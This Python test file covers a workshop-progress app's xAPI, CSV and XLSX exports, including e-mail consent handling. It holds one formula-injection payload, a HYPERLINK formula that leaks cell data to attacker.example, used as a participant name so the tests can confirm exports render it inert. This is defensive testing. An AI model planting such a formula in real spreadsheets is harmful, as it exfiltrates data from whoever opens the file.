"""Exports: xAPI accepted by an independent library, e-mail only with consent, formula-safe CSV and XLSX."""

from __future__ import annotations

import csv
import io
import json

import pytest
from openpyxl import load_workbook
from ralph.models.xapi.base.statements import BaseXapiStatement

from modules.catalog import curriculum
from progress.__main__ import main
from progress.accounts import join_cohort
from progress.demo import simulate
from progress.export import export_files, xapi_statements
from progress.models import Person

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


@pytest.fixture
def cohort(sessions):
    """A small simulated workshop plus one participant whose name is a formula."""
    import datetime as dt

    with sessions.begin() as db:
        workshop = simulate(db, 4, start=dt.date(2026, 11, 24), seed=3)
        join_cohort(db, workshop.cohort.room_code, EVIL, "VNM", "ACDM")
        db.expunge(workshop.cohort)
        return workshop.cohort


def test_every_xapi_statement_is_valid_for_an_independent_xapi_library(sessions, cohort):
    with sessions.begin() as db:
        statements = xapi_statements(db, curriculum(), cohort)
    assert len(statements) > 500
    for s in statements:
        BaseXapiStatement(**s)  # raises on anything xAPI 1.0.3 does not allow
    first = statements[0]
    assert first["version"] == "1.0.3" and first["timestamp"].endswith("Z")
    assert first["actor"]["account"]["homePage"] and "mbox" not in first["actor"]
    assert first["context"]["registration"] and first["context"]["contextActivities"]["grouping"][0][
        "id"
    ].endswith(cohort.room_code)
    verbs = {s["verb"]["id"].rsplit("/", 1)[1] for s in statements}
    assert {"experienced", "answered", "completed", "passed"} <= verbs
    scaled = [s["result"]["score"]["scaled"] for s in statements if "score" in s.get("result", {})]
    assert all(0 <= v <= 1 for v in scaled) and max(scaled) == 1
    assert len({s["id"] for s in statements}) == len(statements)


def test_an_email_is_exported_only_when_the_learner_agreed(sessions, cohort):
    with sessions.begin() as db:
        people = db.query(Person).filter(Person.cohort_id == cohort.id).order_by(Person.id).all()
        people[0].email, people[0].email_consent = "lan@example.org", True
        people[1].email, people[1].email_consent = "hung@example.org", False
        db.flush()
        statements = xapi_statements(db, curriculum(), cohort)
        actors = {s["actor"]["name"]: s["actor"] for s in statements}
        assert actors[people[0].display_name]["mbox"] == "mailto:lan@example.org"
        assert "mbox" not in actors[people[1].display_name]
        assert "hung@example.org" not in json.dumps(statements)


def test_formula_like_text_is_inert_in_csv_and_xlsx(sessions, cohort):
    with sessions.begin() as db:
        files = export_files(db, curriculum(), cohort, "csv") | export_files(db, curriculum(), cohort, "xlsx")
    roster = next(v for k, v in files.items() if k.endswith("-roster.csv"))
    names = [row["name"] for row in csv.DictReader(io.StringIO(roster.decode("utf-8-sig")))]
    assert "'" + EVIL in names and EVIL not in names
    book = load_workbook(io.BytesIO(next(v for k, v in files.items() if k.endswith(".xlsx"))))
    assert book.sheetnames == ["Roster", "Results"]
    cell = next(c for c in book["Roster"]["A"] if c.value == EVIL)
    assert cell.data_type == "s" and cell.quotePrefix
    results = book["Results"]
    headers = [c.value for c in results[1]]
    assert {"M1 completion", "pre-test %", "post-test %", "Indicator tracking"} <= set(headers)
    assert results.freeze_panes == "B2"


def test_the_export_command_writes_each_format(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'a.sqlite3'}")
    assert main(["demo", "--participants", "2"]) == 0
    room = capsys.readouterr().out.strip().splitlines()[-1]
    assert main(["export", "--cohort", room, "--format", "xapi", "--out", str(tmp_path / "s.json")]) == 0
    assert json.loads((tmp_path / "s.json").read_text())[0]["version"] == "1.0.3"
    assert main(["export", "--cohort", room, "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    assert sorted(p.name.rsplit("-", 1)[1] for p in (tmp_path / "csv").iterdir()) == [
        "results.csv",
        "roster.csv",
    ]
    assert main(["export", "--cohort", room, "--format", "xlsx", "--out", str(tmp_path)]) == 0
    assert len(list(tmp_path.glob("*.xlsx"))) == 1
    assert main(["export", "--cohort", "NOPE99", "--format", "csv", "--out", str(tmp_path)]) == 1
